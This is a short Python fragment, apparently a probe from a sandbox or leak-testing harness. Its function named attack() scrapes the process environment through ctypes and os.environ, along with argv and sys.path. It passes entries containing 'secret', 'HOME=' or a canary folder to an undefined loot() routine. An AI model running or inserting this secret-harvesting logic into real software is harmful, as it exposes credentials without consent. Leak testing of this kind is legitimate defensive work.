import ctypes
import os
import sys


def attack():
    words = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    known, number = [], 0
    while words and words[number]:
        known.append(words[number].decode())
        number += 1
    known += [f"{name}={value}" for name, value in os.environ.items()]
    known += sys.argv + sys.orig_argv + sys.path
    folder = os.path.dirname(CANARY)
    for each_one in known:
        if "secret" in each_one.lower() or folder in each_one or "HOME=" in each_one:
            loot(each_one[:80])
